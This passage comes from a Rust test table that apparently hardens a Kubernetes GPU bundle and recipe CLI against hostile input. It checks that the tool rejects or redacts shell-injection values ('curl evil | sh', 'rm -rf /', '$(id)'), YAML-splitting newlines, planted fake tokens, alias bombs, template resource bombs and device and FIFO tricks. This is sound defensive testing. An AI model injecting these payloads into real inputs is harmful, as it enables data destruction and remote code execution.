        check: Check::Value("gpu-operator", "/a\n---\nb", "1"),
        ..R
    },
    Row {
        name: "set_string_shell_text_never_reaches_scripts",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpu-operator:driver.version=$(touch /tmp/pwned)`id`;rm -rf /"],
        code: 0,
        writes: &["out"],
        check: Check::Absent(&["deploy.sh", "undeploy.sh", "README.md"], "touch /tmp/pwned"),
        ..R
    },
    Row {
        name: "repo_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "argocd", "--repo", "https://git.example.com/a.git\n---\nkind: Secret"],
        msg: "expected a Git repository URL",
        ..R
    },
    Row {
        name: "repo_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "flux", "--repo", "https://git.example.com/$(id).git"],
        msg: "expected a Git repository URL",
        ..R
    },
    Row {
        name: "repo_with_credentials",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "argocd", "--repo", "https://user:hunter2@git.example.com/a.git"],
        msg: "the URL carries credentials",
        check: Check::NoSecret(&["hunter2"]),
        ..R
    },
    Row {
        name: "revision_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "argocd", "--repo", "https://git.example.com/a.git", "--revision", "main\n---\nkind: Secret"],
        msg: "expected a branch, tag or commit",
        ..R
    },
    Row {
        name: "revision_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "flux", "--repo", "https://git.example.com/a.git", "--revision", "main;rm -rf /"],
        msg: "expected a branch, tag or commit",
        ..R
    },
    Row {
        name: "node_selector_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--system-node-selector", "a=b\n---\nkind: Secret"],
        msg: "is not a label value",
        ..R
    },
    Row {
        name: "toleration_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--accelerated-node-toleration", "a=b\nc:NoSchedule"],
        msg: "is not a label value",
        ..R
    },
    Row {
        name: "workload_gate_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--workload-gate", "$(id)=x:NoSchedule"],
        msg: "key \"$(id)\" is not a label key",
        ..R
    },
    Row {
        name: "recipe_component_name_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: \"$(id)\"")],
        msg: "is not valid: a component name is a DNS label",
        ..R
    },
    Row {
        name: "recipe_namespace_with_newline",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "namespace: kube-system", "namespace: \"kube-system\\n---\\nkind: Secret\"")],
        msg: "is not a valid namespace",
        ..R
    },
    Row {
        name: "recipe_chart_version_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "version: 2.55.0", "version: \"2.55.0; curl evil | sh\"")],
        msg: "version \"2.55.0; curl evil | sh\" is not a valid chart version",
        ..R
    },
    Row {
        name: "recipe_source_url_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "source: https://aws.github.io/eks-charts", "source: \"https://aws.github.io/eks-charts'$(id)'\"")],
        msg: "is not a valid chart repository URL",
        ..R
    },
    Row {
        name: "kubeconfig_malformed_with_token",
        class: Secrets,
        args: &["snapshot", "--filter", "k8s", "--no-timestamp", "--node-name", "n1", "--timeout", "3s", "-k", "{tmp}/kc"],
        setup: &[File("kc", "apiVersion: v1\nusers:\n- name: admin\n  user:\n    token: hunter2-token\n   password: hunter2-password\n")],
        code: 0,
        msg: "not a valid kubeconfig: line 6, column 4: did not find expected key",
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "kubeconfig_flow_broken_with_token",
        class: Secrets,
        args: &["snapshot", "--filter", "k8s", "--no-timestamp", "--node-name", "n1", "--timeout", "3s", "-k", "{tmp}/kc"],
        setup: &[File("kc", "{users: [{name: a, user: {token: \"hunter2-flow-token}]\n")],
        code: 0,
        msg: "not a valid kubeconfig: line 2, column 1",
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "kubeconfig_wrong_types_with_token",
        class: Secrets,
        args: &["snapshot", "--filter", "k8s", "--no-timestamp", "--node-name", "n1", "--timeout", "3s", "-k", "{tmp}/kc"],
        setup: &[File("kc", "apiVersion: v1\nclusters: hunter2-cluster-token\nusers:\n- name: a\n  user:\n    token: [hunter2-list]\n")],
        code: 0,
        msg: "not a valid kubeconfig: line 2, column 11: invalid type",
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "kubeconfig_unreachable_with_token",
        class: Secrets,
        args: &["snapshot", "--filter", "k8s", "--no-timestamp", "--node-name", "n1", "--timeout", "3s", "-k", "{tmp}/kc"],
        setup: &[File("kc", "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://hunter2:hunter2-pw@127.0.0.1:1\ncontexts:\n- name: c\n  context: {cluster: c, user: u}\ncurrent-context: c\nusers:\n- name: u\n  user:\n    token: hunter2-bearer\n")],
        code: 0,
        msg: "cannot reach the API server",
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_root_secrets_redacted",
        class: Secrets,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--no-timestamp"],
        code: 0,
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_root_secrets_redacted_json_to_file",
        class: Secrets,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-t", "json", "-o", "{tmp}/s.json"],
        code: 0,
        writes: &["s.json"],
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_root_secrets_redacted_table",
        class: Secrets,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "-t", "table"],
        code: 0,
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_root_secret_files_of_own",
        class: Secrets,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[
            Dir("root/etc"),
            Dir("root/proc/sys/kernel"),
            File("root/etc/os-release", "ID=ubuntu\nDB_PASSWORD=hunter2-db\nAPI_KEY=\"ghp_hunter2hunter2hunter2hunter2\"\n"),
            File("root/proc/cmdline", "ro root=/dev/sda1 nvme.token=hunter2-cmd --bootstrap-token=hunter2-boot"),
            File("root/proc/sys/kernel/random_secret", "hunter2-sysctl\n"),
        ],
        code: 0,
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_debug_log_quotes_no_secret",
        class: Secrets,
        args: &["--debug", "snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os"],
        code: 0,
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "snapshot_log_json_quotes_no_secret",
        class: Secrets,
        args: &["--log-json", "snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os"],
        code: 0,
        check: Check::NoSecret(SECRETS),
        ..R
    },
    Row {
        name: "diff_error_quotes_no_whole_secret_file",
        class: Secrets,
        args: &["diff", "{tmp}/a.yaml", "{fx}/diff/snapshot-after.yaml"],
        setup: &[File("a.yaml", "kind: Snapshot\napiVersion: aicr.nvidia.com/v1alpha1\nmeasurements: [\ntoken: hunter2-in-broken-yaml\n")],
        msg: "did not find expected ',' or ']' at line 5 column 1",
        ..R
    },
    // ===== Class 3: crashes, hangs, unbounded memory =======================
    Row {
        name: "set_path_100k_keys",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "{gen:deep_set}"],
        msg: "at most 64",
        ..R
    },
    Row {
        name: "set_path_65_keys",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "{gen:deep_set_65}"],
        msg: "at most 64",
        ..R
    },
    Row {
        name: "set_path_10k_indexes",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "{gen:deep_index}"],
        msg: "at most 64",
        ..R
    },
    Row {
        name: "set_huge_index",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:env[4294967295]=x"],
        msg: "list index 4294967295 in path \"env[4294967295]\" is over the limit of 65536",
        ..R
    },
    Row {
        name: "set_index_beyond_u64",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:env[99999999999999999999999]=x"],
        msg: "a list index must be an integer at character 4",
        ..R
    },
    Row {
        name: "set_negative_index",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:env[-1]=x"],
        msg: "list index [-1] in path \"env[-1]\" is not a non-negative integer",
        ..R
    },
    Row {
        name: "set_json_50k_deep",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "{gen:deep_set_json}"],
        msg: "the value is not valid JSON (recursion limit exceeded at line 1 column 128)",
        ..R
    },
    Row {
        name: "set_json_200_deep_objects",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "{gen:deep_set_json_obj}"],
        msg: "the value is not valid JSON (recursion limit exceeded",
        ..R
    },
    Row {
        name: "set_json_huge_number",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "gpu-operator:x=1e999"],
        msg: "the value is not valid JSON (number out of range",
        ..R
    },
    Row {
        name: "set_120k_value",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "{gen:long_value}"],
        code: 0,
        writes: &["out"],
        ..R
    },
    Row {
        name: "set_error_quotes_an_excerpt",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "{gen:deep_set}"],
        msg: "bytes in all)",
        ..R
    },
    Row {
        name: "snapshot_timeout_huge",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--timeout", "99999999999999h"],
        msg: "invalid --timeout \"99999999999999h\": it is longer than 1h",
        ..R
    },
    Row {
        name: "snapshot_timeout_over_an_hour",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--timeout", "61m"],
        msg: "at most 1h",
        ..R
    },
    Row {
        name: "snapshot_timeout_zero",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--timeout", "0s"],
        msg: "invalid --timeout \"0s\": it is zero",
        ..R
    },
    Row {
        name: "snapshot_timeout_negative",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--timeout", "-1s"],
        msg: "unexpected argument '-1' found",
        ..R
    },
    Row {
        name: "snapshot_timeout_no_unit",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os", "--timeout", "10"],
        msg: "invalid --timeout \"10\": not a duration",
        ..R
    },
    Row {
        name: "bundle_nodes_beyond_u64",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--nodes", "99999999999999999999"],
        msg: "number too large to fit in target type",
        ..R
    },
    Row {
        name: "set_integer_beyond_u64_stays_a_string",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:x=99999999999999999999999999"],
        code: 0,
        writes: &["out"],
        check: Check::Value("gpu-operator", "/x", "99999999999999999999999999"),
        ..R
    },
    Row {
        name: "recipe_nodes_beyond_u64",
        class: Crash,
        args: &["recipe", "--service", "eks", "--nodes", "99999999999999999999999"],
        msg: "number too large to fit in target type",
        ..R
    },
    Row {
        name: "recipe_stdout_closed",
        class: Crash,
        args: &["recipe", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu"],
        io: Io::StdoutClosed,
        code: 0,
        ..R
    },
    Row {
        name: "query_stdout_closed",
        class: Crash,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "."],
        io: Io::StdoutClosed,
        code: 0,
        ..R
    },
    Row {
        name: "diff_stdout_closed",
        class: Crash,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml"],
        io: Io::StdoutClosed,
        code: 0,
        ..R
    },
    Row {
        name: "completion_stdout_closed",
        class: Crash,
        args: &["completion", "zsh"],
        io: Io::StdoutClosed,
        code: 0,
        ..R
    },
    Row {
        name: "snapshot_stdout_closed",
        class: Crash,
        args: &["snapshot", "--root", "{fx}/snapshot-secrets", "--filter", "os"],
        io: Io::StdoutClosed,
        code: 0,
        ..R
    },
    Row {
        name: "verify_stdout_closed",
        class: Crash,
        args: &["verify", "{tmp}/b", "-t", "json"],
        setup: &[Bundle("b"), File("b/extra.txt", "x")],
        io: Io::StdoutClosed,
        code: 1,
        ..R
    },
    Row {
        name: "bundle_stderr_closed",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out"],
        io: Io::StderrClosed,
        code: 0,
        writes: &["out"],
        ..R
    },
    Row {
        name: "bundle_error_stderr_closed",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "nosuch:x=1"],
        io: Io::StderrClosed,
        ..R
    },
    Row {
        name: "snapshot_stderr_closed",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/empty", "--filter", "os"],
        setup: &[Dir("empty")],
        io: Io::StderrClosed,
        code: 0,
        ..R
    },
    Row {
        name: "diff_error_stderr_closed",
        class: Crash,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{R}"],
        io: Io::StderrClosed,
        ..R
    },
    Row {
        name: "query_stdout_full",
        class: Crash,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "."],
        io: Io::StdoutFull,
        code: 6,
        msg: "cannot write standard output: No space left on device",
        ..R
    },
    Row {
        name: "diff_stdout_full",
        class: Crash,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml"],
        io: Io::StdoutFull,
        code: 6,
        msg: "cannot write standard output: No space left on device",
        ..R
    },
    Row {
        name: "completion_stdout_full",
        class: Crash,
        args: &["completion", "fish"],
        io: Io::StdoutFull,
        code: 6,
        msg: "cannot write standard output: No space left on device",
        ..R
    },
    Row {
        name: "recipe_c_dev_zero",
        class: Crash,
        args: &["recipe", "-c", "/dev/zero"],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "recipe_s_dev_zero",
        class: Crash,
        args: &["recipe", "-s", "/dev/zero"],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "query_c_dev_zero",
        class: Crash,
        args: &["query", "-c", "/dev/zero", "--selector", "."],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "bundle_r_dev_zero",
        class: Crash,
        args: &["bundle", "-r", "/dev/zero", "-o", "{tmp}/out"],
        msg: "/dev/zero is a character device; expected a regular file, a pipe, or - for standard input",
        ..R
    },
    Row {
        name: "bundle_s_dev_zero",
        class: Crash,
        args: &["bundle", "-s", "/dev/zero", "-o", "{tmp}/out"],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "diff_a_dev_zero",
        class: Crash,
        args: &["diff", "/dev/zero", "{R}"],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "diff_b_dev_zero",
        class: Crash,
        args: &["diff", "{R}", "/dev/zero"],
        msg: "/dev/zero is a character device",
        ..R
    },
    Row {
        name: "recipe_c_stdin_dev_zero",
        class: Crash,
        args: &["recipe", "-c", "-"],
        io: Io::StdinZero,
        msg: "standard input is larger than 16 MiB",
        ..R
    },
    Row {
        name: "diff_stdin_dev_zero",
        class: Crash,
        args: &["diff", "-", "{R}"],
        io: Io::StdinZero,
        msg: "standard input is larger than 16 MiB",
        ..R
    },
    Row {
        name: "bundle_r_stdin_over_cap",
        class: Crash,
        args: &["bundle", "-r", "-", "-o", "{tmp}/out"],
        io: Io::StdinGen(over_cap),
        msg: "standard input is larger than 16 MiB, the limit for a document",
        ..R
    },
    Row {
        name: "recipe_data_dev_zero",
        class: Crash,
        args: &["recipe", "--data", "/dev/zero", "--service", "eks"],
        msg: "--data /dev/zero: is not a directory",
        ..R
    },
    Row {
        name: "snapshot_k_dev_zero",
        class: Crash,
        args: &["snapshot", "--filter", "k8s", "-k", "/dev/zero", "--timeout", "3s"],
        msg: "--kubeconfig /dev/zero: not a regular file; give a kubeconfig file",
        ..R
    },
    Row {
        name: "snapshot_root_dev_zero",
        class: Crash,
        args: &["snapshot", "--root", "/dev/zero", "--filter", "os"],
        msg: "--root /dev/zero: not a directory",
        ..R
    },
    Row {
        name: "verify_dev_zero",
        class: Crash,
        args: &["verify", "/dev/zero"],
        msg: "/dev/zero: not a bundle: it is a file, not a bundle directory",
        ..R
    },
    Row {
        name: "recipe_c_fifo_with_no_writer",
        class: Crash,
        args: &["recipe", "-c", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "fifo is a FIFO with no writer",
        ..R
    },
    Row {
        name: "snapshot_root_fifos",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[
            Dir("root/etc"),
            Dir("root/proc/sys/kernel"),
            Fifo("root/etc/os-release"),
            Fifo("root/etc/hostname"),
            Fifo("root/proc/cmdline"),
            Fifo("root/proc/modules"),
            Fifo("root/proc/sys/kernel/hostname"),
            Fifo("root/proc/sys/kernel/osrelease"),
        ],
        code: 0,
        check: Check::Stdout("cannot read /etc/os-release: not a regular file (a FIFO)"),
        ..R
    },
    Row {
        name: "snapshot_root_is_fifo",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/fifo", "--filter", "os"],
        setup: &[Fifo("fifo")],
        msg: "fifo: not a directory",
        ..R
    },
    Row {
        name: "snapshot_root_link_to_dev_zero",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/etc"), Dir("root/proc"), Link("root/etc/os-release", "/dev/zero"), Link("root/proc/cmdline", "/dev/urandom")],
        code: 0,
        check: Check::Stdout("cannot read /etc/os-release: No such file or directory"),
        ..R
    },
    Row {
        name: "snapshot_root_link_loop",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/etc"), Link("root/etc/os-release", "os-release"), Link("root/proc", "/proc")],
        code: 0,
        check: Check::Stdout("cannot read /etc/os-release"),
        ..R
    },
    Row {
        name: "snapshot_root_huge_modules",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/proc"), Gen("root/proc/modules", huge_modules)],
        code: 0,
        check: Check::Stdout("subtype: kmod"),
        ..R
    },
    Row {
        name: "snapshot_root_binary_files",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/etc"), Dir("root/proc"), Gen("root/etc/os-release", binary_junk), Gen("root/proc/cmdline", binary_junk)],
        code: 0,
        ..R
    },
    Row {
        name: "recipe_c_deep_json",
        class: Crash,
        args: &["recipe", "-c", "{tmp}/deep.json"],
        setup: &[Gen("deep.json", deep_json)],
        msg: "recursion limit exceeded",
        ..R
    },
    Row {
        name: "diff_deep_flow_yaml",
        class: Crash,
        args: &["diff", "{tmp}/deep.yaml", "{fx}/diff/snapshot-after.yaml"],
        setup: &[Gen("deep.yaml", deep_flow_yaml)],
        msg: "nested more than 1000 deep",
        ..R
    },
    Row {
        name: "bundle_r_deep_block_yaml",
        class: Crash,
        args: &["bundle", "-r", "{tmp}/deep.yaml", "-o", "{tmp}/out"],
        setup: &[Gen("deep.yaml", deep_block_yaml)],
        msg: "is not valid YAML or JSON: recursion limit exceeded",
        ..R
    },
    Row {
        name: "recipe_s_deep_block_sequence",
        class: Crash,
        args: &["recipe", "-s", "{tmp}/deep.yaml"],
        setup: &[Gen("deep.yaml", deep_block_seq)],
        msg: "recursion limit exceeded",
        ..R
    },
    Row {
        name: "recipe_c_alias_bomb",
        class: Crash,
        args: &["recipe", "-c", "{tmp}/bomb.yaml"],
        setup: &[Gen("bomb.yaml", alias_bomb)],
        msg: "repetition limit exceeded",
        ..R
    },
    Row {
        name: "diff_alias_bomb",
        class: Crash,
        args: &["diff", "{tmp}/bomb.yaml", "{tmp}/bomb.yaml"],
        setup: &[Gen("bomb.yaml", alias_bomb)],
        msg: "repetition limit exceeded",
        ..R
    },
    Row {
        name: "query_selector_40k_keys",
        class: Crash,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "{gen:deep_selector}"],
        msg: "a path may have at most 64 keys and indexes at character 129",
        ..R
    },
    Row {
        name: "query_long_missing_key_quotes_an_excerpt",
        class: Crash,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "{gen:long_key_selector}"],
        code: 3,
        msg: "(120000 bytes in all)\" not found at \"components\"",
        ..R
    },
    Row {
        name: "query_selector_huge_index",
        class: Crash,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "deploymentOrder[18446744073709551616]"],
        msg: "a list index must be an integer at character 16",
        ..R
    },
    Row {
        name: "data_spec_base_chain_3000",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data/overlays"), File("data/registry.yaml", REGISTRY), Chain("data/overlays", 3000)],
        msg: "its spec.base chain is longer than 64 overlays",
        ..R
    },
    Row {
        name: "data_spec_base_cycle",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[
            Dir("data/overlays"),
            File("data/registry.yaml", REGISTRY),
            File("data/overlays/a.yaml", "kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: a\nspec:\n  base: b\n  criteria:\n    service: eks\n"),
            File("data/overlays/b.yaml", "kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: b\nspec:\n  base: a\n"),
        ],
        msg: "overlay inheritance cycle: a -> b -> a",
        ..R
    },
    Row {
        name: "data_spec_base_self",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[
            Dir("data/overlays"),
            File("data/registry.yaml", REGISTRY),
            File("data/overlays/a.yaml", "kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: a\nspec:\n  base: a\n  criteria:\n    service: eks\n"),
        ],
        msg: "overlay inheritance cycle: a -> a",
        ..R
    },
    Row {
        name: "data_template_nested_loops",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            File("data/components/gpu-operator/manifests/dcgm-exporter.yaml", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}apiVersion: v1\nkind: ConfigMap\n"),
        ],
        msg: "used up its budget",
        ..R
    },
    Row {
        name: "data_template_unknown_statement",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            File("data/components/gpu-operator/manifests/dcgm-exporter.yaml", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}\napiVersion: v1\nkind: ConfigMap\n"),
        ],
        msg: "template error: syntax error: unknown statement macro",
        ..R
    },
    Row {
        name: "data_template_output_bomb",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            File("data/components/gpu-operator/manifests/dcgm-exporter.yaml", "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{ \"x\" * 1000000000 }}\n"),
        ],
        msg: "used up its budget",
        ..R
    },
    Row {
        name: "data_template_string_doubling",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            File("data/components/gpu-operator/manifests/dcgm-exporter.yaml", "{% set s = namespace(v=\"xxxxxxxxxxxxxxxx\") %}{% for i in range(40) %}{% set s.v = s.v ~ s.v %}{% endfor %}apiVersion: v1\nkind: ConfigMap\n"),
        ],
        msg: "used up its budget",
        ..R
    },
    Row {
        name: "data_template_nested_ifs",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            Gen("data/components/gpu-operator/manifests/dcgm-exporter.yaml", nested_ifs),
        ],
        msg: "recursion limit",
        ..R
    },
    Row {
        name: "data_file_over_cap",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data"), Gen("data/registry.yaml", over_data_cap)],
        msg: "--data: file too large (10485761 bytes, max 10485760): registry.yaml",
        ..R
    },
    Row {
        name: "data_registry_is_fifo",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data"), Fifo("data/registry.yaml")],
        msg: "registry.yaml is not a regular file (a FIFO, socket or device)",
        ..R
    },
    Row {
        name: "data_overlay_is_fifo",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data/overlays"), File("data/registry.yaml", REGISTRY), Fifo("data/overlays/x.yaml")],
        msg: "overlays/x.yaml is not a regular file (a FIFO, socket or device)",
        ..R
    },
    Row {
        name: "data_overlay_link_loop",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data/overlays"), File("data/registry.yaml", REGISTRY), Link("data/overlays/loop", "{tmp}/data/overlays")],
        msg: "--data: symlinks not allowed: overlays/loop",
        ..R
    },
    Row {
        name: "verify_file_is_fifo",
        class: Crash,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Fifo("b/gpu-operator/fifo.yaml")],
        code: 1,
        check: Check::Stdout("extra    gpu-operator/fifo.yaml"),
        ..R
    },
    Row {
        name: "verify_listed_file_replaced_by_fifo",
        class: Crash,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Remove("b/deploy.sh"), Fifo("b/deploy.sh"), Remove("b/README.md"), Link("b/README.md", "/dev/zero")],
        code: 1,
        check: Check::Stdout("FAILED: 2 changed, 0 missing, 0 extra"),
        ..R
    },
    Row {
        name: "verify_checksums_is_fifo",
        class: Crash,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), Fifo("d/checksums.txt")],
        msg: "checksums.txt: not a bundle: is not a regular file",
        ..R
    },
    Row {
        name: "verify_checksums_links_to_dev_zero",
        class: Crash,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), Link("d/checksums.txt", "/dev/zero")],
        msg: "checksums.txt: not a bundle: is a symbolic link",
        ..R
    },
    Row {
        name: "verify_link_loop_inside",
        class: Crash,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Link("b/loop", "{tmp}/b")],
        code: 1,
        check: Check::Stdout("extra    loop"),
        ..R
    },
    Row {
        name: "verify_checksums_binary",
        class: Crash,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), Gen("d/checksums.txt", binary_junk)],
        msg: "not a bundle: it is not UTF-8 text",
        ..R
    },
    // ===== Class 4: what must be refused, and what must be accepted ========
    Row {
        name: "snapshot_k_sparse_4g",
        class: Crash,
        args: &["snapshot", "--filter", "k8s", "--node-name", "n1", "--timeout", "3s", "-k", "{tmp}/kc"],
        setup: &[Sparse("kc", 1 << 32)],
        code: 0,
        msg: "larger than 4194304 bytes",
        ..R
    },
    Row {
        name: "recipe_c_sparse_4g",
        class: Crash,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[Sparse("c.yaml", 1 << 32)],
        msg: "c.yaml is larger than 16 MiB, the limit for a document",
        ..R
    },
    Row {
        name: "diff_sparse_4g",
        class: Crash,
        args: &["diff", "{R}", "{tmp}/b.yaml"],
        setup: &[Sparse("b.yaml", 1 << 32)],
        msg: "b.yaml is larger than 16 MiB, the limit for a document",
        ..R
    },
    Row {
        name: "data_overlay_sparse_4g",
        class: Crash,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data/overlays"), File("data/registry.yaml", REGISTRY), Sparse("data/overlays/big.yaml", 1 << 32)],
        msg: "--data: file too large (4294967296 bytes, max 10485760): overlays/big.yaml",
        ..R
    },
    Row {
        name: "snapshot_root_sparse_files",
        class: Crash,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Sparse("root/etc/os-release", 1 << 32), Sparse("root/proc/modules", 1 << 32), Sparse("root/proc/cmdline", 1 << 32)],
        code: 0,
        check: Check::Stdout("cannot read /etc/os-release: larger than 65536 bytes"),
        ..R
    },
    Row {
        name: "verify_listed_file_sparse_4g",
        class: Crash,
